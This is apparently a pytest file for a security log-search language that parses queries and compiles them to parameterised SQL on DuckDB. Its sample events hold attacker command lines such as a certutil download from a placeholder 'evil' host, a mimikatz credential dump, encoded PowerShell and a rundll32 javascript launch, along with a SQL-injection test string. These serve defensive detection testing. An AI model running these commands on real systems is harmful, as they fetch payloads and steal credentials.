"""The search language: parse tables, syntax errors, and compiled queries run on a real DuckDB."""

from __future__ import annotations

import random
from datetime import UTC, date, datetime

import duckdb
import pytest

from tocsin.core.errors import InvalidInputError, QuerySyntaxError
from tocsin.lake.querylang import (
    And,
    Compare,
    Exists,
    MatchAll,
    MatchKind,
    Node,
    Not,
    Or,
    Range,
    Term,
    parse_query,
    referenced_fields,
)
from tocsin.lake.querysql import compile_query

W = MatchKind.WILDCARD
NOW = datetime(2024, 1, 5, tzinfo=UTC)


def t(field: str | None, value: str, kind: MatchKind = MatchKind.EXACT) -> Term:
    return Term(field, value, kind)


# --------------------------------------------------------------------------- parsing

AST_CASES: list[tuple[str, Node]] = [
    ("", MatchAll()),
    ("   ", MatchAll()),
    ("*", MatchAll()),
    ("*:*", MatchAll()),
    ("certutil", t(None, "certutil")),
    ('"mimikatz sekurlsa"', t(None, "mimikatz sekurlsa")),
    ("*urlcache*", t(None, "*urlcache*", W)),
    ("--flag", t(None, "--flag")),
    ("CommandLine:*certutil*", t("CommandLine", "*certutil*", W)),
    (r"Image:C:\Windows\System32\cmd.exe", t("Image", r"C:\Windows\System32\cmd.exe")),
    (r"Image:*\cmd.exe", t("Image", r"*\cmd.exe", W)),
    (r"TargetFilename:C:\Users\*\AppData\*", t("TargetFilename", r"C:\Users\*\AppData\*", W)),
    (r"Image:\\server\share\x.exe", t("Image", r"\\server\share\x.exe")),
    ("id.orig_h:10.0.0.1", t("id.orig_h", "10.0.0.1")),
    ("source.ip:10.0.0.1", t("source.ip", "10.0.0.1")),
    ("my-field:x", t("my-field", "x")),
    ("f : x", t("f", "x")),
    ("`my field`:x", t("my field", "x")),
    ("`a``b`:x", t("a`b", "x")),
    ('`we"ird`:x', t('we"ird', "x")),
    ('CommandLine:"*certutil -urlcache*"', t("CommandLine", "*certutil -urlcache*", W)),
    (r'x:"a \"b\" c"', t("x", 'a "b" c')),
    (r'x:"C:\Temp\\"', t("x", "C:\\Temp\\")),
    (r'x:"\\server\share"', t("x", r"\\server\share")),
    ('x:""', t("x", "")),
    ("x:-24h", t("x", "-24h")),
    ("CommandLine:*IEX(New-Object*", t("CommandLine", "*IEX(New-Object*", W)),
    ("(f:a(b))", t("f", "a(b)")),
    ("f:*", Exists("f")),
    ("_exists_:f", Exists("f")),
    ("_exists_:`odd name`", Exists("odd name")),
    ("f:[* TO *]", Exists("f")),
    ("f>*", Exists("f")),
    ("f:[1 TO 5]", Range("f", "1", "5", True, True)),
    ("f:{1 TO 5}", Range("f", "1", "5", False, False)),
    ("f:[1 TO 5}", Range("f", "1", "5", True, False)),
    ("f:{1 to 5]", Range("f", "1", "5", False, True)),
    ("f:[10 TO *]", Range("f", "10", None, True, True)),
    ("f:[* TO 10}", Range("f", None, "10", True, False)),
    (
        "@timestamp:[2024-01-01 TO 2024-01-02T12:00]",
        Range("@timestamp", "2024-01-01", "2024-01-02T12:00"),
    ),
    ('f:["a b" TO "c d"]', Range("f", "a b", "c d")),
    ("f>10", Compare("f", ">", "10")),
    ("f>=10", Compare("f", ">=", "10")),
    ("f<10", Compare("f", "<", "10")),
    ("f<=10", Compare("f", "<=", "10")),
    ("f:>10", Compare("f", ">", "10")),
    ("f: >= 10", Compare("f", ">=", "10")),
    ("@timestamp>-24h", Compare("@timestamp", ">", "-24h")),
    ("a b", And((t(None, "a"), t(None, "b")))),
    ("a AND b", And((t(None, "a"), t(None, "b")))),
    ("a and b", And((t(None, "a"), t(None, "b")))),
    ("a OR b or c", Or((t(None, "a"), t(None, "b"), t(None, "c")))),
    ("a AND b OR c", Or((And((t(None, "a"), t(None, "b"))), t(None, "c")))),
    ("a OR b c", Or((t(None, "a"), And((t(None, "b"), t(None, "c")))))),
    ("a AND (b OR c)", And((t(None, "a"), Or((t(None, "b"), t(None, "c")))))),
    ("NOT a", Not(t(None, "a"))),
    ("not a", Not(t(None, "a"))),
    ("NOT(a)", Not(t(None, "a"))),
    ("NOT NOT a", Not(Not(t(None, "a")))),
    ("-a", Not(t(None, "a"))),
    ("-f:x", Not(t("f", "x"))),
    ('-"a b"', Not(t(None, "a b"))),
    ("-(a OR b)", Not(Or((t(None, "a"), t(None, "b"))))),
    ("a -b", And((t(None, "a"), Not(t(None, "b"))))),
    ("NOT a AND b", And((Not(t(None, "a")), t(None, "b")))),
    ("ANDROID", t(None, "ANDROID")),
    ("notepad", t(None, "notepad")),
    ("EventID:(4624 OR 4625)", Or((t("EventID", "4624"), t("EventID", "4625")))),
    ("EventID:(4624 4625)", Or((t("EventID", "4624"), t("EventID", "4625")))),
    (
        "EventID:(4624 or 4625 or 4634)",
        Or((t("EventID", "4624"), t("EventID", "4625"), t("EventID", "4634"))),
    ),
    ("c:(a AND b)", And((t("c", "a"), t("c", "b")))),
    ("c:(a AND NOT b*)", And((t("c", "a"), Not(t("c", "b*", W))))),
    ('c:("a b" OR *x)', Or((t("c", "a b"), t("c", "*x", W)))),
    (
        "n:(-1 OR [5 TO 9] OR >100)",
        Or((t("n", "-1"), Range("n", "5", "9"), Compare("n", ">", "100"))),
    ),
    ("c:(a OR (b AND c))", Or((t("c", "a"), And((t("c", "b"), t("c", "c")))))),
    ("_exists_:f AND NOT g:*", And((Exists("f"), Not(Exists("g"))))),
]


@pytest.mark.parametrize(("query", "expected"), AST_CASES)
def test_parse(query: str, expected: Node) -> None:
    assert parse_query(query) == expected


ERROR_CASES: list[tuple[str, int, str]] = [
    ("(a", 1, "never closed"),
    ("a AND (b OR c", 7, "never closed"),
    ("a)", 2, "no '('"),
    ("()", 2, "empty parentheses"),
    ("a AND", 6, "after 'AND'"),
    ("a OR", 5, "after 'OR'"),
    ("a AND )", 7, "after 'AND'"),
    ("AND a", 1, "'AND' needs a term"),
    ("a OR OR b", 6, "'OR' needs a term"),
    ("NOT", 4, "after 'NOT'"),
    ("a - b", 4, "after '-'"),
    ("f:", 3, "missing value after 'f:'"),
    ("f: ", 4, "missing value after 'f:'"),
    ("(f:)", 4, "missing value"),
    ("f:()", 4, "empty value group"),
    ("f:(a OR)", 8, "expected a value after 'OR'"),
    ("f:(a", 3, "never closed"),
    ("f>", 3, "missing value after 'f>'"),
    ("f:[1 TO]", 8, "upper bound"),
    ("f:[1 5]", 6, "expected 'TO'"),
    ("f:[1 TO 5", 10, "never closed"),
    ("f:[TO 5]", 4, "lower bound"),
    ("f:[]", 4, "lower bound"),
    ('"abc', 1, "unterminated quote"),
    ('f:"abc', 3, "unterminated quote"),
    (r'f:"C:\Temp\"', 3, "unterminated quote"),
    ("`abc", 1, "unterminated backtick"),
    ("``:x", 1, "empty field name"),
    ("`f` x", 5, "expected ':'"),
    (":x", 1, "missing field name"),
    ("a AND >5", 7, "missing field name"),
    ("*x:y", 1, "not a field name"),
    (r"C\x:y", 1, "not a field name"),
    ("_exists_:", 10, "missing field name"),
    ("_exists_:*x", 10, "not a field name"),
    ("(CommandLine:*IEX(New-Object*)", 1, "quote values with parentheses"),
]


@pytest.mark.parametrize(("query", "column", "fragment"), ERROR_CASES)
def test_syntax_error(query: str, column: int, fragment: str) -> None:
    with pytest.raises(QuerySyntaxError) as caught:
        parse_query(query)
    assert caught.value.column == column
    assert fragment in caught.value.message
    assert caught.value.query == query


def test_syntax_error_points_at_the_column() -> None:
    with pytest.raises(QuerySyntaxError) as caught:
        parse_query("a AND (b")
    assert str(caught.value).splitlines() == [
        "unbalanced parenthesis: this '(' is never closed at column 7",
        "  a AND (b",
        "        ^",
    ]


DOC_EXAMPLES = [
    r"Image:*\cmd.exe AND CommandLine:*whoami*",
    "EventID:(4624 4625) AND NOT user.name:*$",
    r"certutil -Image:*\certutil.exe",
    "@timestamp>-24h destination.port:[1 TO 1023] -destination.ip:10.*",
    r"CurrentDirectory:C:\Temp\ OR ShareName:\\*\ADMIN$",
    r'CurrentDirectory:"C:\Program Files\App\\"',
    '"http://evil.example/x" OR "2>&1"',
    '-user.name:SYSTEM -"svchost.exe -k" -(a OR b) --headless',
    "event.category:(process AND NOT network)",
    "destination.port:(22 OR 3389 OR [5985 TO 5986])",
    "bytes>1e6 event.duration:[0 TO 1000000} user.name:[a TO m}",
    '@timestamp:"2024-01-31 12:30:15" OR @timestamp:[now-1h TO now+1d] OR @timestamp>1706700000',
    "`Event Data`:x `Image~2`:x url.full:*/a.php?id=1 user.name:adm?n",
]


@pytest.mark.parametrize("query", DOC_EXAMPLES)
def test_documented_examples_parse(query: str) -> None:
    parse_query(query)


def test_parser_raises_only_syntax_errors() -> None:
    pieces = [*'ab:*?"\\()[]{}<>- `', " ", " AND ", " OR ", "NOT ", " TO ", "f", "-24h", "1"]
    rng = random.Random(7)  # noqa: S311 - reproducible fuzzing, not security
    for _ in range(3000):
        query = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 10)))
        try:
            compile_query(parse_query(query), {"f": "BIGINT", "a": "VARCHAR[]"}, now=NOW)
        except QuerySyntaxError as exc:
            assert 1 <= exc.column <= len(query) + 1, query
        except InvalidInputError as exc:  # a bad bound for the number field f
            assert "'f'" in exc.message, query


def test_referenced_fields() -> None:
    node = parse_query("certutil AND (Image:*x OR NOT EventID>3) _exists_:a b:[1 TO 2] *")
    assert referenced_fields(node) == {"event.original", "Image", "EventID", "a", "b"}
    assert referenced_fields(parse_query("")) == set()


# --------------------------------------------------------------------------- compiling


def test_values_are_parameters_and_identifiers_are_quoted() -> None:
    node = parse_query("""`we"ird`:"x' OR 1=1 --" AND nope:1""")
    sql, params = compile_query(node, {'we"ird': "VARCHAR"})
    assert sql == '((lower("we""ird") = lower(?)) IS TRUE AND false)'
    assert params == ["x' OR 1=1 --"]


def test_match_all_and_missing_fields_compile_to_constants() -> None:
    assert compile_query(parse_query(""), {}) == ("true", [])
    assert compile_query(parse_query("NOT x:1"), {}) == ("(NOT false)", [])
    assert compile_query(parse_query("certutil"), {"Image": "VARCHAR"}) == ("false", [])


def test_time_parameters_are_utc_datetimes() -> None:
    columns = {"@timestamp": "TIMESTAMP WITH TIME ZONE", "seen": "TIMESTAMP"}
    _, params = compile_query(parse_query("@timestamp>-24h seen:2024-01-02"), columns, now=NOW)
    assert params == [
        datetime(2024, 1, 4, tzinfo=UTC),
        datetime(2024, 1, 2),
        datetime(2024, 1, 3),
    ]
    _, params = compile_query(parse_query("@timestamp<2024-06-01T12:30+02:00"), columns)
    assert params == [datetime(2024, 6, 1, 10, 30, tzinfo=UTC)]


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("EventID>abc", "number field 'EventID'"),
        ("EventID:[1 TO x]", "number field 'EventID'"),
        ("@timestamp>yesterday", "time field '@timestamp'"),
        ("@timestamp:[2024-13-01 TO *]", "time field '@timestamp'"),
        ("@timestamp<2024-01-01T10:00+24:00", "time field '@timestamp'"),
    ],
)
def test_bad_bounds_on_typed_fields(query: str, message: str) -> None:
    columns = {"EventID": "BIGINT", "@timestamp": "TIMESTAMP WITH TIME ZONE"}
    with pytest.raises(InvalidInputError, match=message):
        compile_query(parse_query(query), columns)


def test_bad_bounds_on_missing_fields_are_just_false() -> None:
    assert compile_query(parse_query("EventID>abc"), {}) == ("false", [])


# --------------------------------------------------------------------------- running

COLUMNS_SQL = """
    id INTEGER,
    "event.original" VARCHAR,
    Image VARCHAR,
    CommandLine VARCHAR,
    EventID BIGINT,
    bytes DOUBLE,
    "@timestamp" TIMESTAMP WITH TIME ZONE,
    "event.category" VARCHAR[],
    "user.name" VARCHAR,
    Enabled BOOLEAN,
    Status VARCHAR,
    seen DATE,
    proc STRUCT(pid BIGINT),
    "we""ird" VARCHAR
"""


def ts(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


# id, event.original, Image, CommandLine, EventID, bytes, @timestamp, event.category,
# user.name, Enabled, Status
ROWS: list[tuple[object, ...]] = [
    (1, "proc cmd whoami alice", r"C:\Windows\System32\cmd.exe", "cmd.exe /c whoami", 1,
     100.0, ts("2024-01-01T00:00:00"), ["process", "start"], "alice", True, "200"),
    (2, "proc CertUtil -urlcache -f http://evil/x.exe", r"C:\Windows\System32\CMD.EXE",
     "CMD.EXE /C certutil -urlcache -f http://evil/x.exe", 1, 2048.5,
     ts("2024-01-01T12:00:00"), ["process"], "Bob", True, "404"),
    (3, "powershell -enc SQBFAFgA", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     "powershell -enc SQBFAFgA", 4688, 5000.0, ts("2024-01-02T00:00:00"), ["process"],
     "svc_backup", False, "5000"),
    (4, "evil.exe --flag=50%", r"C:\Users\bob\AppData\Local\Temp\evil.exe",
     "evil.exe --flag=50%", 4688, 1.5, ts("2024-01-02T23:59:59"), ["process", "malware"],
     "svcXbackup", False, "n/a"),
    (5, "conn 192.168.1.10 -> 8.8.8.8", None, None, 3, None, ts("2024-01-03T05:00:00"),
     ["network", "connection"], None, None, None),
    (6, "conn empty", "", "", 3, 0.0, ts("2024-01-03T06:00:00"), [], "", None, ""),
    (7, r"share \\fileserver\share\tool.exe", r"\\fileserver\share\tool.exe", "tool.exe 100%",
     1, 10.0, ts("2024-01-04T00:00:00"), None, "carol", True, "301"),
    (8, r'app "C:\Program Files\App\app.exe" -x', r"C:\Program Files\App\app.exe",
     r'"C:\Program Files\App\app.exe" -x', 1, 1e6, ts("2023-12-31T23:59:59"),
     ["process", None], "dave%admin", True, "200"),
    (9, "mimikatz sekurlsa::logonpasswords", r"C:\Windows\explorer.exe", "explorer.exe", 1,
     None, None, ["process"], "ÉLODIE", None, None),
    (10, "logon eve", r"C:\Windows\System32\cmd.exe", "cmd /c echo a_b", 4624, 20.0,
     ts("2024-01-04T23:00:00"), ["authentication"], "eve", None, None),
    (11, "failed logon frank", None, None, 4625, None, ts("2024-01-03T18:00:00"),
     ["authentication"], "frank", None, None),
    (12, None, None, None, None, None, ts("2024-01-03T19:00:00"), None, None, None, None),
    (13, "type secret", r"c:\windows\system32\cmd.exe", r"cmd.exe /c type C:\secret?.txt", 1,
     30.0, ts("2024-01-03T20:00:00"), ["process"], "alice", None, None),
    (14, r'rundll32.exe javascript:"\..\mshtml,RunHTMLApplication "',
     r"C:\Windows\System32\rundll32.exe",
     r'rundll32.exe javascript:"\..\mshtml,RunHTMLApplication "', 1, None,
     ts("2024-01-03T21:00:00"), ["process"], "bob", None, None),
    (15, "certutil decode", r"C:\Windows\System32\certutil.exe", "certutil.exe -decode a b", 1,
     None, ts("2024-01-03T22:00:00"), ["process"], "svc_backup2", None, None),
    (16, "line1\nline2 Certutil", None, None, None, None, ts("2024-01-03T23:00:00"), ["file"],
     None, None, None),
]  # fmt: skip
EXTRA: dict[int, tuple[object, ...]] = {  # seen, proc, we"ird
    1: (date(2024, 1, 1), {"pid": 42}, "yes"),
    2: (date(2024, 1, 2), {"pid": 7}, None),
}
ALL = set(range(1, 17))
CMD = {1, 2, 10, 13}

MATCH_CASES: list[tuple[str, set[int]]] = [
    # text: case-insensitive equality, wildcards, Windows paths typed as they are
    (r"Image:C:\Windows\System32\cmd.exe", CMD),
    (r"Image:*\cmd.exe", CMD),
    (r"Image:*\CMD.EXE", CMD),
    (r"image:*\cmd.exe", CMD),
    (r"NOT Image:*\cmd.exe", ALL - CMD),
    (r"Image:\\fileserver\share\tool.exe", {7}),
    (r'Image:"C:\Program Files\App\app.exe"', {8}),
    (r'CommandLine:"\"C:\Program Files\App\app.exe\" -x"', {8}),
    (r"Image:C:\Users\*\AppData\*", {4}),
    (r"Image:C:\Windows\* AND NOT Image:*\System32\*", {9}),
    (r'CommandLine:*javascript:"\..\mshtml*', {14}),
    ("CommandLine:*certutil*", {2, 15}),
    ('CommandLine:"*-urlcache -f*"', {2}),
    ("CommandLine:*secret?.txt", {13}),
    ("CommandLine:cmd*whoami", {1}),
    ("CommandLine:*/x.exe", {2}),
    ('Image:""', {6}),
    # % and _ in values are literal
    ("user.name:svc_backup", {3}),
    ("user.name:svc_*", {3, 15}),
    ("user.name:*%*", {8}),
    ("CommandLine:*50%", {4}),
    ("CommandLine:*a_b", {10}),
    ("user.name:élodie", {9}),
    ("user.name:*e -user.name:alice", {9, 10}),
    # free text: anywhere in event.original
    ("certutil", {2, 15, 16}),
    ('"mimikatz sekurlsa"', {9}),
    ("*urlcache*", {2}),
    ("line1*line2", {16}),
    ("urlcache certutil", {2}),
    ("(certutil OR mimikatz) AND NOT EventID:1", {16}),
    ("*", ALL),
    # numbers
    ("EventID:1", {1, 2, 7, 8, 9, 13, 14, 15}),
    ("EVENTID:4688", {3, 4}),
    ("EventID:(4624 OR 4625)", {10, 11}),
    ("EventID:(4624 4625)", {10, 11}),
    ("EventID:[3 TO 4624]", {5, 6, 10}),
    ("EventID:{1 TO 4625}", {5, 6, 10}),
    ("EventID:[3 TO 4624}", {5, 6}),
    ("EventID>=4625", {3, 4, 11}),
    ("EventID:>4624", {3, 4, 11}),
    ("EventID<3", {1, 2, 7, 8, 9, 13, 14, 15}),
    ("EventID:46*", {3, 4, 10, 11}),
    ("EventID:abc", set()),
    ("NOT EventID:abc", ALL),
    ("EventID:1.5", set()),
    ("bytes:100", {1}),
    ("bytes>1000", {2, 3, 8}),
    ("bytes:[1.5 TO 100]", {1, 4, 7, 10, 13}),
    ("bytes:[* TO 10}", {4, 6}),
    ("bytes<=1e1", {4, 6, 7}),
    # numbers kept as text
    ("Status>=300", {2, 3, 7}),
    ("Status:200", {1, 8}),
    ("Status:>abc", {4}),
    ("Status:*", {1, 2, 3, 4, 7, 8}),
    # booleans
    ("Enabled:true", {1, 2, 7, 8}),
    ("Enabled:FALSE", {3, 4}),
    ("NOT Enabled:true", ALL - {1, 2, 7, 8}),
    # lists: any element
    ("event.category:network", {5}),
    ("event.category:PROCESS", {1, 2, 3, 4, 8, 9, 13, 14, 15}),
    ("event.category:proc*", {1, 2, 3, 4, 8, 9, 13, 14, 15}),
    ("NOT event.category:process", {5, 6, 7, 10, 11, 12, 16}),
    ("event.category:(process AND malware)", {4}),
    ("event.category:[a TO n]", {4, 5, 10, 11, 16}),
    ("event.category:*", ALL - {6, 7, 12}),
    # existence and missing fields
    ("Image:*", {1, 2, 3, 4, 7, 8, 9, 10, 13, 14, 15}),
    ("_exists_:Image", {1, 2, 3, 4, 7, 8, 9, 10, 13, 14, 15}),
    ("NOT _exists_:Image", {5, 6, 11, 12, 16}),
    ("bytes:[* TO *]", {1, 2, 3, 4, 6, 7, 8, 10, 13}),
    ("nosuchfield:x", set()),
    ("NOT nosuchfield:x", ALL),
    ("nosuchfield:*", set()),
    ("-nosuchfield:[1 TO 2]", ALL),
    # times (NOW is 2024-01-05T00:00Z)
    ("@timestamp:2024-01-01", {1, 2}),
    ("@timestamp:[2024-01-01 TO 2024-01-02]", {1, 2, 3, 4}),
    ("@timestamp:{2024-01-01 TO 2024-01-02T12:00]", {3}),
    ("@timestamp:[2024-01-02T00:00:00Z TO 2024-01-02T23:59:59]", {3, 4}),
    ("@timestamp:[2024-01-02T00:00:00.000001 TO *]", ALL - {1, 2, 3, 8, 9}),
    ("@timestamp>-24h", {10}),
    ("@timestamp>=-24h", {7, 10}),
    ("@timestamp:[now-30h TO now]", {7, 10, 11, 12, 13, 14, 15, 16}),
    ("@timestamp<2024", {8}),
    ("@timestamp:2023-12", {8}),
    ("@timestamp:2024-01-0*", ALL - {8, 9}),
    ("@timestamp:2024-01-03T05+00:00", {5}),
    ("NOT @timestamp:2024-01-01", ALL - {1, 2}),
    ('@timestamp:"2024-01-03 05:00"', {5}),
    ("@timestamp:2023", {8}),
    ("@timestamp>=1704326400", {7, 10}),
    ("@timestamp:[-2d TO -36h]", {5, 6}),
    ("seen:2024-01-02", {2}),
    ("seen>2024-01-01", {2}),
    # other types are matched as text
    ("proc:*42*", {1}),
    ('`we"ird`:YES', {1}),
]


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> duckdb.DuckDBPyConnection:
    con = duckdb.connect()
    con.execute("SET TimeZone = 'UTC'")
    con.execute(f"CREATE TABLE events ({COLUMNS_SQL})")
    rows = [(*row, *EXTRA.get(n, (None, None, None))) for n, row in enumerate(ROWS, start=1)]
    assert [row[0] for row in rows] == sorted(ALL)
    con.executemany(f"INSERT INTO events VALUES ({', '.join('?' * 14)})", rows)  # noqa: S608
    path = tmp_path_factory.mktemp("lake") / "events.parquet"
    con.execute(f"COPY events TO '{path}' (FORMAT parquet)")
    con.execute(f"CREATE VIEW parquet_events AS SELECT * FROM read_parquet('{path}')")  # noqa: S608
    return con


@pytest.fixture(scope="module")
def columns(database: duckdb.DuckDBPyConnection) -> dict[str, str]:
    return {name: kind for name, kind, *_ in database.execute("DESCRIBE events").fetchall()}


def run(
    con: duckdb.DuckDBPyConnection, columns: dict[str, str], query: str, table: str
) -> set[int]:
    sql, params = compile_query(parse_query(query), columns, now=NOW)
    # The compiled SQL holds only quoted identifiers; every value is a parameter.
    rows = con.execute(f"SELECT id FROM {table} WHERE {sql}", params).fetchall()  # noqa: S608
    return {row[0] for row in rows}


@pytest.mark.parametrize(("query", "expected"), MATCH_CASES)
def test_matches(
    database: duckdb.DuckDBPyConnection, columns: dict[str, str], query: str, expected: set[int]
) -> None:
    assert run(database, columns, query, "events") == expected


@pytest.mark.parametrize(("query", "expected"), MATCH_CASES[::4])
def test_matches_over_parquet(
    database: duckdb.DuckDBPyConnection, columns: dict[str, str], query: str, expected: set[int]
) -> None:
    assert run(database, columns, query, "parquet_events") == expected


def test_compiled_query_is_never_null(
    database: duckdb.DuckDBPyConnection, columns: dict[str, str]
) -> None:
    sql, params = compile_query(parse_query("Image:*cmd* OR EventID>3"), columns, now=NOW)
    rows = database.execute(f"SELECT count(*) FROM events WHERE ({sql}) IS NULL", params)  # noqa: S608
    assert rows.fetchall() == [(0,)]
